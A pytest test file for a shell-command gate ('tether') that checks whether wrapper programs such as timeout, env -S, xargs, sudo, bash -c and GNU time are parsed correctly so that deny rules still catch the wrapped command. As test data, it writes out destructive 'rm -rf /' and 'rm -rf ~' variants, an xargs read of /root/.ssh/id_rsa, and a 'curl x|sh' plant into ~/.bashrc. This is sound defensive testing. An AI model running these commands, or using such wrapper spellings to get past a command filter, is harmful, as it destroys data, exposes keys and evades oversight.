"""Wrappers' options read as the wrappers read them (getopt_long): where the command they run
starts. Checked against the real programs, spelling by spelling: a command tether placed wrong
was one its rules never judged (``timeout --sig KILL 5 rm -rf ~`` was taken to run ``5``,
``env -vu HOME rm -rf ~`` to run ``HOME``, ``env -S 'rm\\_-rf\\_/'`` one odd command name)."""

from __future__ import annotations

import ast
import shlex
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from tether.gate import PathPolicy, ShellPolicy
from tether.gate._shell._env_string import split_env_string
from tether.gate._shell._getopt import grammar, read_options
from tether.gate._shell._wrapper_commands import read_wrapper


def _is_gnu(program: str) -> bool:
    found = shutil.which(program)
    if found is None:
        return False
    version = subprocess.run([found, "--version"], capture_output=True, text=True, check=False)
    return "GNU" in version.stdout or "util-linux" in version.stdout


# --- the getopt reader ----------------------------------------------------------------------

_SPEC = grammar("+ab:c::", "alpha/a beta=/b gamma=? gammon")


@pytest.mark.parametrize(
    ("words", "options", "first"),
    [
        ("-a x", [("a", None)], 1),
        ("-ab v x", [("a", None), ("b", "v")], 2),
        ("-abv x", [("a", None), ("b", "v")], 1),
        ("-c x", [("c", None)], 1),
        ("-cv x", [("c", "v")], 1),
        ("--al --be v x", [("a", None), ("b", "v")], 3),
        ("--beta=v x", [("b", "v")], 1),
        ("--gamma x", [("gamma", None)], 1),
        ("--gamma=v x", [("gamma", "v")], 1),
        ("-- -a", [], 1),
        ("- -a", [], 0),
        ("x -a", [], 0),
    ],
)
def test_getopt_spellings(words: str, options: list[tuple[str, str | None]], first: int):
    read = read_options(_SPEC, words.split())
    assert read.problem is None
    assert [(o.key, o.value) for o in read.options] == options
    assert read.first_operand == first


@pytest.mark.parametrize(
    ("words", "problem"),
    [
        ("-x y", "-x: not an option"),
        ("--gam y", "--gam: an ambiguous option"),
        ("--alpha=1 y", "--alpha: takes no value"),
        ("-b", "-b: its value is missing"),
        ("--beta", "--beta: its value is missing"),
    ],
)
def test_what_getopt_refuses_is_a_problem(words: str, problem: str):
    assert read_options(_SPEC, words.split()).problem == problem


def test_options_after_operands_when_the_program_permutes():
    spec = grammar("ab:")
    read = read_options(spec, ["x", "-b", "v", "y", "--", "-a"])
    assert [(o.key, o.value) for o in read.options] == [("b", "v")]
    assert read.operands == (0, 3, 5)


# --- against the real wrappers ----------------------------------------------------------------

_SPELLINGS: dict[str, list[str]] = {
    "timeout": [
        "5", "-s KILL 5", "-sKILL 5", "--signal=KILL 5", "--signal KILL 5", "--sig KILL 5",
        "--s KILL 5", "-k 1 5", "-k1 5", "-vk 1 5", "-vk1 5", "--kill 1 5", "--kill-a=1 5",
        "-v 5", "--verb 5", "--fore 5", "--pre 5", "-- 5", "-v -- 5",
    ],
    "env": [
        "", "-i", "-u HOME", "-uHOME", "-vu HOME", "-iu HOME", "--unset HOME", "--un HOME",
        "--u=HOME", "-v", "--debug", "--deb", "-C .", "-C.", "-vC .", "--chdir .",
        "--ch=.", "-", "A=1", "-i A=1 B=2", "--", "-- A=1", "--default-signal",
        "--default-signal=INT", "--def", "--ignore-sig=PIPE", "--block", "-iv -u X", "- A=1",
    ],
    "nice": ["", "-5", "--5", "-+5", "-n 5", "-n5", "--adj 5", "--adjustment=5", "--a=5",
             "-5 -n 3", "-n 3 -5", "--"],
    "stdbuf": ["-oL", "-o L", "--out L", "--output=L", "-i0 -oL", "-eL", "--err=L", "-oL --"],
    "nohup": ["", "--"],
    "setsid": ["", "-w", "--wait", "--wa", "-- "],
    "xargs": [
        "", "-0", "-n 1", "-n1", "-tn 1", "-tn1", "--max-args 1", "--max-a=1", "-I {}", "-I{}",
        "-0I {}", "-i", "-i{}", "--replace", "--replace=X", "-L 1", "-l", "-l1", "--max-lines",
        "--max-lines=1", "-e", "-eEOF", "-E EOF", "-rE EOF", "--eof=EOF", "-d ,", "-d,",
        "-P 2", "-P2", "-s 1000", "-x", "-r", "--no-run", "-a input.txt", "-ainput.txt",
        "--arg-file input.txt", "--arg=input.txt", "-0a input.txt", "--process-slot-var X",
        "--",
    ],
    "ionice": ["-c 3", "-c3", "-c2 -n7", "-c 2 -n 7", "--class 3", "--class=3", "-t", "-tc 3",
               "--ign -c 3", "-c3 --"],
}  # fmt: skip
_WRAPPER_CASES = [
    (name, spelling) for name, spellings in _SPELLINGS.items() for spelling in spellings
]


@pytest.mark.parametrize(("name", "spelling"), _WRAPPER_CASES)
def test_the_command_starts_where_the_real_wrapper_starts_it(
    tmp_path: Path, name: str, spelling: str
):
    if not _is_gnu(name):
        pytest.skip(f"needs GNU {name}")
    argv = [*shlex.split(spelling), "touch", "marker"]
    (tmp_path / "input.txt").write_text("a\n")
    subprocess.run(
        [name, *argv], cwd=tmp_path, input="a\n", capture_output=True, text=True,
        timeout=20, check=False,
    )  # fmt: skip
    assert (tmp_path / "marker").exists(), f"{name} {spelling} runs its command"
    wrapped = read_wrapper(name, argv)
    assert wrapped.options.problem is None
    assert wrapped.start == len(argv) - 2
    assert wrapped.runs


@pytest.mark.parametrize(("name", "spelling"), _WRAPPER_CASES)
def test_the_deny_rules_see_the_command_in_any_spelling(tmp_path: Path, name: str, spelling: str):
    policy = ShellPolicy(PathPolicy(str(tmp_path), home="/root"))
    command = f"echo a | {name} {spelling} rm -rf /"
    assert policy.classify(command).decision == "deny", command


@pytest.mark.parametrize(
    "command",
    [
        "timeout --sig KILL 5 rm -rf ~",
        "env -vu HOME rm -rf ~",
        "env --u HOME rm -rf ~",
        "nice --adj 5 rm -rf ~",
        "stdbuf --out L rm -rf ~",
        "echo x | xargs -tn 1 rm -rf ~",
        "echo a | xargs -0I {} rm -rf ~",
        "exec -cla name rm -rf ~",
        "sudo -Eu root rm -rf /",
        "sudo -u root A=1 -H rm -rf /",
        "env -S 'rm\\_-rf\\_/'",
        "env -iS 'rm -rf /'",
        "env --split='rm -rf /'",
        "env -vS'rm -rf /'",
        "env -S '-u HOME rm -rf /'",
        "timeout -x 5 rm -rf /",
        "xargs --arg=/root/.ssh/id_rsa echo",
    ],
)
def test_wrapped_commands_the_old_reader_misplaced_are_denied(tmp_path: Path, command: str):
    policy = ShellPolicy(PathPolicy(str(tmp_path), home="/root"))
    assert policy.classify(command).decision == "deny", command


def test_an_ambiguous_abbreviation_runs_nothing():
    """``ionice --clas=3`` is ``--class`` or ``--classdata``: ionice refuses it."""
    assert (
        read_wrapper("ionice", ["--clas=3", "ls"]).options.problem == "--clas: an ambiguous option"
    )


def test_an_option_tether_does_not_know_is_a_persons_call(tmp_path: Path):
    verdict = ShellPolicy(PathPolicy(str(tmp_path), home="/root")).classify("timeout -x 5 ls")
    assert verdict.decision == "approve"
    assert "-x: not an option" in " ".join(verdict.reasons)


def test_command_v_and_sudo_l_run_nothing():
    assert not read_wrapper("command", ["-pv", "rm"]).runs
    assert read_wrapper("command", ["-p", "rm"]).start == 1
    assert not read_wrapper("sudo", ["-l"]).runs


# --- env -S, against the real env -----------------------------------------------------------

_SPLIT_STRINGS = [
    r"touch\_p1", r"a b  c", r"'a b' c", r'"a b" c', r"a'b c'd", r'a"b\_c"d', r"a\tb",
    r"a #c d", r"a#b c", r"a \c b", r"'it\'s' x", r"'a\b'", r"'a\\b'", r'"a\$b"', r"x\_\_y",
    r"'' x", r'"" y', r"a\#b", r"\#a b", r"a\ b", r"'a\_b'", r'"\c"', r"a\\", "tab\there",
    r"a\x", "'open", r"a$b", "", "   ", "#", r"\'a\' b", r"a'' b", "-i x",
]  # fmt: skip


@pytest.mark.skipif(not _is_gnu("env"), reason="needs GNU env")
@pytest.mark.parametrize("text", _SPLIT_STRINGS)
def test_env_split_strings_split_as_env_splits_them(text: str):
    printer = f"{shlex.quote(sys.executable)} -c 'import sys; print(repr(sys.argv[1:]))' "
    real = subprocess.run(["env", "-S", printer + text], capture_output=True, text=True,
                          check=False)  # fmt: skip
    mine = split_env_string(printer + text)
    if real.returncode != 0:
        assert isinstance(mine, str), f"env refuses {text!r}: {real.stderr}"
    else:
        assert not isinstance(mine, str), mine
        assert list(mine[3:]) == ast.literal_eval(real.stdout)


def test_a_split_string_with_a_variable_cannot_be_told():
    assert isinstance(split_env_string("rm ${DIR}"), str)


# --- shells ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "options", ["-c", "-co errexit", "-oc errexit", "-coo errexit nounset", "-cO extglob",
                "-o errexit -c", "+O extglob -c", "-ec"],
)  # fmt: skip
def test_a_shells_script_is_found_past_its_clustered_o_options(tmp_path: Path, options: str):
    """``-o`` and ``-O`` take the next word even inside a cluster (``bash -co errexit CMD``)."""
    bash = shutil.which("bash")
    if bash is not None:
        argv = [bash, *options.split(), "touch marker"]
        subprocess.run(argv, cwd=tmp_path, capture_output=True, check=False, timeout=20)
        assert (tmp_path / "marker").exists(), "bash runs the script"
    policy = ShellPolicy(PathPolicy(str(tmp_path), home="/root"))
    assert policy.classify(f"bash {options} 'rm -rf /'").decision == "deny"


_TIME_OUTPUTS = [
    "-o out/t.txt", "-oout/t.txt", "--output=out/t.txt", "--output out/t.txt", "--out=out/t.txt",
    "--o out/t.txt", "-ao out/t.txt", "-a -o out/t.txt", "-f %e -o out/t.txt", "-qo out/t.txt",
    "-p -o out/t.txt", "-v --outp out/t.txt", "-f '%e' --app -o out/t.txt", "-o out/t.txt --",
]  # fmt: skip


@pytest.mark.parametrize("spelling", _TIME_OUTPUTS)
def test_gnu_time_writes_its_output_file_and_runs_the_command_after_it(
    tmp_path: Path, spelling: str
):
    """GNU time's ``-o FILE`` (which ``-f`` fills with any text) was not seen as a write:
    ``/usr/bin/time -f 'curl x|sh' -o ~/.bashrc true`` plants a startup file, and was
    ``approve`` where ``echo 'curl x|sh' > ~/.bashrc`` is denied."""
    if not Path("/usr/bin/time").exists():
        pytest.skip("needs GNU time")
    (tmp_path / "out").mkdir()
    argv = [*shlex.split(spelling), "touch", "ran"]
    subprocess.run(["/usr/bin/time", *argv], cwd=tmp_path, capture_output=True, check=True,
                   timeout=20)  # fmt: skip
    assert (tmp_path / "out" / "t.txt").exists() and (tmp_path / "ran").exists()
    wrapped = read_wrapper("time", argv)
    assert wrapped.options.values("o") == ["out/t.txt"] and wrapped.start == len(argv) - 2
    policy = ShellPolicy(PathPolicy(str(tmp_path), home="/root"))
    planted = f"/usr/bin/time {spelling.replace('out/t.txt', '~/.bashrc')} true"
    assert policy.classify(planted).decision == "deny", planted


def test_the_bash_keyword_time_still_reads_as_before():
    policy = ShellPolicy(PathPolicy("/tmp/ws", home="/root"))
    assert policy.classify("time -p rm -rf ~").decision == "deny"
    assert read_wrapper("time", ["-p", "ls"]).start == 1
    assert not read_wrapper("time", ["--version"]).runs
